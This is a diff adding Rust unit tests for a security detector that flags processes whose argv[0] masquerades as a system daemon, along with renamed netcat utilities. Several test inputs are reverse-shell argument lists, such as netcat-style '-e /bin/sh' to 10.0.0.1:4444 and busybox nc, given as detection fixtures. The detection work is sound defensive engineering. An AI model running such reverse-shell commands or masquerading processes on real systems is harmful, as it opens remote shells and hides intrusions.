@@ -108,4 +108,71 @@ mod tests {
         assert!(with_exe(&["sshd", "-D"], "/usr/sbin/sshd").is_empty());
         assert!(with_exe(&["nginx: master process"], "/usr/sbin/nginx").is_empty());
     }
+
+    #[test]
+    fn daemon_names_are_read_up_to_a_colon_or_space() {
+        assert_eq!(
+            with_exe(&["/usr/sbin/cron -f"], "/dev/shm/.k"),
+            ["argv0_masquerade"]
+        );
+        assert_eq!(
+            with_exe(&["dbus-daemon: session"], "/home/u/.local/x"),
+            ["argv0_masquerade"]
+        );
+        // A longer name of the same program: OpenSSH 9.8+ runs sessions as sshd-session.
+        assert!(with_exe(&["sshd: alice [priv]"], "/usr/lib/openssh/sshd-session").is_empty());
+        // systemd's per-user PAM helper is in parentheses, not brackets.
+        assert!(with_exe(&["(sd-pam)"], "/usr/lib/systemd/systemd").is_empty());
+        // The `[` program is not a bracketed name.
+        assert!(with_exe(&["[", "-f", "/etc/hosts", "]"], "/usr/bin/[").is_empty());
+    }
+
+    #[test]
+    fn needs_the_executable_to_compare_with() {
+        // Without the kernel's exe path, argv[0] is all there is: nothing to contradict it.
+        assert!(run(detect, &["[kworker/0:1]"]).is_empty());
+        assert!(run(detect, &["sshd"]).is_empty());
+    }
+
+    #[test]
+    fn fires_on_netcats_exec_options_under_another_name() {
+        assert_eq!(
+            with_exe(
+                &["httpd", "-e", "/bin/sh", "10.0.0.1", "4444"],
+                "/tmp/httpd"
+            ),
+            ["renamed_utility"]
+        );
+        assert_eq!(
+            with_exe(
+                &["update-notifier", "-c", "bash", "10.0.0.1", "443"],
+                "/var/tmp/update-notifier"
+            ),
+            ["renamed_utility"]
+        );
+        // Both at once: a daemon's name over another file, with netcat's options.
+        assert_eq!(
+            with_exe(&["sshd", "-e", "/bin/sh", "10.0.0.1", "4444"], "/tmp/x"),
+            ["renamed_utility", "argv0_masquerade"]
+        );
+    }
+
+    #[test]
+    fn quiet_when_netcat_or_a_shell_owns_the_options() {
+        // netcat itself, by its exe or by busybox's applet: the netcat detector reads it.
+        assert!(with_exe(
+            &["svc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+            "/usr/bin/ncat"
+        )
+        .is_empty());
+        assert!(with_exe(
+            &["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+            "/bin/busybox"
+        )
+        .is_empty());
+        // `sh -c bash`: a shell's own -c.
+        assert!(with_exe(&["sh", "-c", "bash"], "/usr/bin/dash").is_empty());
+        // -e with something other than a shell.
+        assert!(with_exe(&["httpd", "-e", "info"], "/usr/sbin/httpd").is_empty());
+    }
 }
